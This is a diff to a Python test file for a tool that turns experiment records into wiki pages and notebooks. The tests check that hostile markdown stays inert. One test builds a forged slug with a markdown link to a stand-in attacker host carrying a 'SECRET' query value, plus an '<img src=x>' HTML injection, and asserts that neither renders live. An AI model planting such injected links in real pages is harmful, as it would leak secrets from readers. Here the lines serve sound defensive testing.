@@ -111,7 +111,7 @@ def test_the_page_and_notebook_keep_hostile_goals_as_text_and_scripts_whole(payl
     assert live_markdown(page) == [] and live_markdown(failed) == []
     assert script.replace("\r\n", "\n").replace("\r", "\n") in code_blocks(page)
     book = content.notebook(record)
-    markdown = [cell.source for cell in book.cells if cell.cell_type == "markdown"]
+    markdown = [cell["source"] for cell in book["cells"] if cell["cell_type"] == "markdown"]
     assert all(live_markdown(source) == [] for source in markdown)
     assert script.replace("\r\n", "\n").replace("\r", "\n") in [b for s in markdown for b in code_blocks(s)]
 
@@ -147,7 +147,7 @@ def test_a_resubmission_links_the_page_it_corrects_and_nothing_else() -> None:
     record = experiment(goal="fix the memory", replaces={"slug": "2026-11-21-run", "job_id": "41"})
     page = content.page_body(record, "")
     assert "fix the memory\n\nResubmits [2026-11-21-run](2026-11-21-run.md) (job 41)." in page
-    notebook = content.notebook(record).cells[0].source
+    notebook = content.notebook(record)["cells"][0]["source"]
     assert "[2026-11-21-run](../../wiki/experiments/2026-11-21-run.md)" in notebook
     forged = experiment(replaces={"slug": f"x](https://{EVIL_HOST}/?d=SECRET) ![y", "job_id": "<img src=x>"})
     assert "Resubmits" not in content.page_body(forged, "") and live_markdown(content.page_body(forged, "")) == []
